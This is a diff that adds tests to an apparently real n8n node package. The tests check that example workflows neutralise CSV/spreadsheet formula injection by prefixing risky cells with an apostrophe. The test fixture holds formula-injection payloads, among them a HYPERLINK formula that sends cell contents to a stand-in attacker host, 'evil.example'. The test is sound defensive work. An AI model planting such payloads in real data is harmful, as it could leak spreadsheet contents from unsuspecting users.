@@ -7,7 +7,13 @@
  * none that a trigger starts (a business moment, a change) needs code: n8n's
  * no-code nodes shape what it sends.
  */
-import type { INode, INodeType, IVersionedNodeType } from 'n8n-workflow';
+import type {
+	IDataObject,
+	IExecuteFunctions,
+	INode,
+	INodeType,
+	IVersionedNodeType,
+} from 'n8n-workflow';
 import { NodeHelpers } from 'n8n-workflow';
 
 import { resources } from '../nodes/InspectionBusiness/actions/router';
@@ -21,6 +27,7 @@ import {
 	SANDBOX_WEBHOOK_CREDENTIAL,
 	WEBHOOK_EXAMPLE,
 } from '../scripts/workflows';
+import { withExecuteContext } from './helpers/n8n';
 
 const PACKAGE = 'n8n-nodes-inspection-business';
 const NODE_TYPES: Record<string, INodeType | IVersionedNodeType> = {
@@ -221,4 +228,131 @@ test('every connection joins two nodes of its workflow', () => {
 			for (const target of main.flat()) expect(names).toContain(target.node);
 		}
 	}
+});
+
+/**
+ * Formula injection: a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, per
+ * OWASP's CSV injection guidance, a tab or a carriage return) as a formula, so a client named
+ * `=HYPERLINK(…)` would become a link in the accountant's sheet. Every example that writes rows
+ * to a CSV file or a sheet passes them through one Edit Fields node that writes such text with a
+ * leading `'`, which the spreadsheet shows as text. Numbers stay numbers.
+ */
+describe('rows written to a CSV file or a sheet', () => {
+	const GUARD = 'Safe spreadsheet cells';
+	const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
+	/** Each example that writes rows, the node that builds a row, and the one that writes it. */
+	const ROW_WRITERS = [
+		{ id: 'IbExampleAcctExp', row: 'Spreadsheet row', sink: 'CSV file' },
+		{
+			id: 'IbExamplePaidAcct',
+			row: 'Accounting row',
+			sink: 'Add or update the row in your books (replace me)',
+		},
+	];
+	const workflow = (id: string) => examples.find((example) => example.id === id)!;
+	const node = (id: string, name: string) =>
+		workflow(id).nodes.find((candidate) => candidate.name === name)!;
+	const next = (id: string, name: string) =>
+		(workflow(id).connections as Record<string, { main: Array<Array<{ node: string }>> }>)[
+			name
+		]?.main
+			.flat()
+			.map((target) => target.node);
+
+	it('every example that writes a CSV file or a row for a sheet passes its rows through the guard', () => {
+		const spreadsheetFile = (candidate: { type: string; parameters?: unknown }) =>
+			candidate.type === 'n8n-nodes-base.convertToFile' &&
+			['csv', 'xlsx', 'xls', 'ods'].includes(
+				String((candidate.parameters as { operation?: string }).operation),
+			);
+		const csv = examples.filter((example) => example.nodes.some(spreadsheetFile));
+		expect(csv.map((example) => example.id)).toEqual(['IbExampleAcctExp']);
+		for (const { id, row, sink } of ROW_WRITERS) {
+			expect(next(id, row)).toEqual([GUARD]);
+			expect(next(id, GUARD)).toEqual([sink]);
+			expect(node(id, GUARD).parameters).toEqual(node('IbExampleAcctExp', GUARD).parameters);
+		}
+	});
+
+	/** A paid inspection whose client, address, services and statuses are written to run as formulas. */
+	const hostile = {
+		id: '3f1c2b9e-8d47-4c1a-9e2f-6b5a4d3c2b1a',
+		status: 'confirmed',
+		deleted: false,
+		scheduled_for: '2026-05-01T14:00:00Z',
+		updated_at: '2026-05-02T09:30:00Z',
+		address: { full: '@SUM(A1:A9)' },
+		contacts: [
+			{
+				role: 'Customer',
+				first_name: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+				last_name: 'Doe',
+				email: '+cmd@example.com',
+			},
+		],
+		services: [{ name: '-2+3' }],
+		add_ons: [{ name: 'Radon Test' }],
+		price: {
+			quote: 500,
+			amount_paid: -50,
+			amount_due: 0,
+			payment_status: '\tpaid',
+			paid: true,
+			pay_at_close_status: '\rnone',
+		},
+	};
+
+	/** A row as the example builds it, then as its guard writes it, each by n8n's expression engine. */
+	async function rowsOf(id: string, row: string, input: IDataObject) {
+		const { assignments } = node(id, row).parameters as unknown as {
+			assignments: { assignments: Array<{ name: string; value: unknown; type: string }> };
+		};
+		const built = await evaluated(input, async function (): Promise<IDataObject> {
+			return Object.fromEntries(
+				assignments.assignments.map(({ name, value, type }) => {
+					const cell =
+						typeof value === 'string' ? this.evaluateExpression(unmarked(value), 0) : value;
+					return [name, (type === 'number' ? Number(cell) : cell) as IDataObject[string]];
+				}),
+			);
+		});
+		const { jsonOutput } = node(id, GUARD).parameters as unknown as { jsonOutput: string };
+		const written = await evaluated(built, async function () {
+			return this.evaluateExpression(unmarked(jsonOutput), 0) as IDataObject;
+		});
+		return { built, written };
+	}
+
+	/** A parameter's text without the `=` that marks an expression (evaluateExpression adds it). */
+	const unmarked = (value: string) => (value.startsWith('=') ? value.slice(1) : value);
+
+	async function evaluated<T>(item: IDataObject, fn: (this: IExecuteFunctions) => Promise<T>) {
+		const credentials = { apiKey: 'unused', baseUrl: 'https://api.example.test' };
+		const { value, error } = await withExecuteContext(fn, { credentials, items: [{ json: item }] });
+		if (error) throw error;
+		return value as T;
+	}
+
+	it.each([
+		{ id: 'IbExampleAcctExp', row: 'Spreadsheet row', input: hostile },
+		{
+			id: 'IbExamplePaidAcct',
+			row: 'Accounting row',
+			input: { record: hostile, paid_on: '2026-05-02' },
+		},
+	])('$id: a text that would run as a formula is written as text', async ({ id, row, input }) => {
+		const { built, written } = await rowsOf(id, row, input);
+		expect(String(built.Client)).toMatch(/^=HYPERLINK/);
+		expect(Object.keys(written)).toEqual(Object.keys(built));
+		const risky = Object.entries(built).filter(
+			([, cell]) => typeof cell === 'string' && FORMULA_STARTS.includes(cell.charAt(0)),
+		);
+		expect(risky.length).toBeGreaterThanOrEqual(4);
+		for (const [column, cell] of Object.entries(built))
+			expect([column, written[column]]).toEqual([
+				column,
+				risky.some(([name]) => name === column) ? `'${String(cell)}` : cell,
+			]);
+		expect(written['Amount Paid']).toBe(-50);
+	});
 });
